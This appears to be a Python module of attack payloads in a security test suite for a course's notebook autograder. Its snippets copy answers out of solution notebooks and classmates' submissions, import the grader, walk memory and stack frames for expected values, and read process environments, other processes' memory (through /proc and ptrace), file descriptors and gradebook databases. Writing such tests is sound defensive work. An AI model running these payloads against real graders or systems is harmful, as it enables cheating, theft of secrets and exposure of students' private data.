"""Secrets: expected values, solutions, other submissions, the grader's memory and environment."""

from __future__ import annotations

from .base import (
    ANY,
    Attack,
    Content,
    every_answer,
    extra_cell,
    files,
    looting,
)
from .tools import COPY_ANSWERS, HUNT, LIBC, PIPE, REPOSITORY


def _first(name: str, tries: str, source: str) -> Attack:
    return Attack(name, tries, files(extra_cell(source)))


def _loots(name: str, tries: str, source: str, allowed: frozenset[str] = ANY) -> Attack:
    return Attack(name, tries, looting(source), allowed=allowed)


# Answers every call with the first expected value whose case fits the arguments.
LOOK_UP = """
def look_up(name):
    def answer(**arguments):
        for cases, expected in known.get(name, []):
            for case, seen in zip(cases, expected):
                if all(case.get(key) == value for key, value in arguments.items()):
                    return seen.get("value")
        return None
    return answer
for name in ("step_lr", "step_lr_trace", "drop_epochs", "chained_trace", "group_traces"):
    globals()[name] = look_up(name)
"""


def _without_answers(source: str) -> dict[str, Content]:
    """The answer cells are empty: what an extra cell defines counts."""
    return files(extra_cell(source), every_answer("pass"))


ATTACKS = [
    Attack(
        "reads-solutions",
        "runs the answers of every solution notebook that it finds",
        _without_answers(
            HUNT + COPY_ANSWERS + "for path in files_below(wanted='steplr.ipynb'.__eq__):\n"
            "    if 'solutions' in path.parts:\n"
            "        take_answers(path)\n"
        ),
    ),
    Attack(
        "copies-neighbours",
        "runs the answers of other students' submissions",
        _without_answers(
            HUNT + COPY_ANSWERS + "for path in files_below(wanted='steplr.ipynb'.__eq__):\n"
            "    if 'submitted' in path.parts:\n"
            "        take_answers(path)\n"
        ),
    ),
    Attack(
        "imports-grader",
        "imports the instructor's package and answers with its references",
        _without_answers(
            """
import sys
sys.path += [REPOSITORY, "/course", "..", "../..", "../../..", "../../../.."]
try:
    from grader.exercises import EXERCISES
    for name, exercise in EXERCISES.items():
        if name == "resume":
            save, resume = exercise.reference
        else:
            globals()[name] = exercise.reference
except ImportError as error:
    print(error)
""".replace("REPOSITORY", REPOSITORY)
        ),
    ),
    Attack(
        "reads-checks-json",
        "answers from the expected values in lessons/*/checks.json",
        _without_answers(
            HUNT
            + """
import json, lrlab
known = {}
roots = [*USUAL, Path(lrlab.__file__).parents[1]]
for path in files_below(roots, "checks.json".__eq__):
    for name, each in json.loads(path.read_text()).items():
        known.setdefault(name, []).append((each["cases"], each["expected"]))
"""
            + LOOK_UP
        ),
    ),
    Attack(
        "walks-memory",
        "looks through all objects for checks, expected values and references, and answers so",
        _without_answers(
            """
import gc
known = {}
def collect():
    for thing in gc.get_objects():
        fields = getattr(thing, "__dict__", None)
        if not isinstance(fields, dict):
            continue
        if "expected" in fields and "cases" in fields:
            for name in list(globals()):
                known.setdefault(name, []).append((fields["cases"], fields["expected"]))
        if "reference" in fields and "misconceptions" in fields:
            globals()[fields["id"]] = fields["reference"]
import lrlab.checking.checks
lrlab.checking.checks.load_checks()
collect()
for name, each in lrlab.checking.checks.load_checks().items():
    known.setdefault(name, []).append((each.cases, each.expected))
"""
            + LOOK_UP
        ),
    ),
    Attack(
        "walks-frames",
        "looks through the frames of its callers for what is expected",
        files(
            every_answer("""
def NAME(**k):
    import sys
    frame = sys._getframe()
    while frame:
        places = {**frame.f_globals, **frame.f_locals}
        for name in ("expected", "right", "reference", "checks"):
            found = places.get(name)
            found = getattr(found, "expected", found)
            if isinstance(found, list) and found:
                number = len(places.get("observed", []))
                return found[min(number, len(found) - 1)].get("value")
            if callable(found):
                return found(**k)
        frame = frame.f_back""")
        ),
    ),
    _loots(
        "reads-environment",
        "prints the environment of every process",
        HUNT + "loot = secrets_in(Path('/proc').glob('[0-9]*/environ')) + str(dict(os.environ))",
    ),
    _loots(
        "reads-files",
        "searches every readable folder for the instructor's notes",
        HUNT + "loot = secrets_in(files_below())",
    ),
    _loots(
        "reads-through-proc",
        "searches through /proc/PID/root and /proc/PID/cwd",
        HUNT + "loot = secrets_in(files_below([*Path('/proc').glob('[0-9]*/root'), "
        "*Path('/proc').glob('[0-9]*/cwd'), "
        "*(root / 'tmp' for root in Path('/proc').glob('[0-9]*/task/*/root'))]))",
    ),
    _loots(
        "reads-memory",
        "reads the memory of every other process through /proc/PID/mem",
        HUNT
        + """
found, end = set(), time.monotonic() + 10
for process in Path("/proc").glob("[0-9]*"):
    if process.name == str(os.getpid()):
        continue
    try:
        with open(process / "maps") as maps, open(process / "mem", "rb", 0) as memory:
            for line in maps:
                start, stop = (int(part, 16) for part in line.split()[0].split("-"))
                if " rw" in line and stop - start < 2**27 and time.monotonic() < end:
                    memory.seek(start)
                    found.update(SECRET.findall(memory.read(stop - start)))
    except (OSError, OverflowError, ValueError):
        pass
loot = found
""",
    ),
    _loots(
        "reads-by-ptrace",
        "attaches to every process by ptrace and reads its memory by process_vm_readv",
        LIBC
        + HUNT
        + """
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
found, end = set(), time.monotonic() + 10
for process in Path("/proc").glob("[0-9]*"):
    pid = int(process.name)
    if pid == os.getpid():
        continue
    libc.ptrace(0x4206, pid, None, None)
    try:
        lines = (process / "maps").read_text().splitlines()
    except OSError:
        lines = []
    for line in lines:
        start, stop = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" in line and stop - start < 2**26 and time.monotonic() < end:
            data = ctypes.create_string_buffer(stop - start)
            mine = Vector(ctypes.addressof(data), stop - start)
            theirs = Vector(start, stop - start)
            libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
            found.update(SECRET.findall(data.raw))
    libc.ptrace(17, pid, None, None)
loot = found
""",
    ),
    _loots(
        "reads-descriptors",
        "reads every open file descriptor from its start",
        HUNT
        + PIPE
        + """
found = set()
for fd in range(256):
    try:
        if stat.S_ISREG(os.fstat(fd).st_mode):
            found.update(SECRET.findall(os.pread(fd, 10**7, 0)))
    except OSError:
        pass
loot = found
""",
    ),
    _loots(
        "reads-gradebook",
        "opens every gradebook that it finds and prints the scores in it",
        HUNT
        + """
import sqlite3
for path in files_below(wanted=lambda name: name.endswith(".db")):
    try:
        rows = sqlite3.connect(path).execute("select first_name from student").fetchall()
        loot += " ".join(str(value) for row in rows for value in row)
    except sqlite3.Error as error:
        print(path, error)
""",
    ),
]
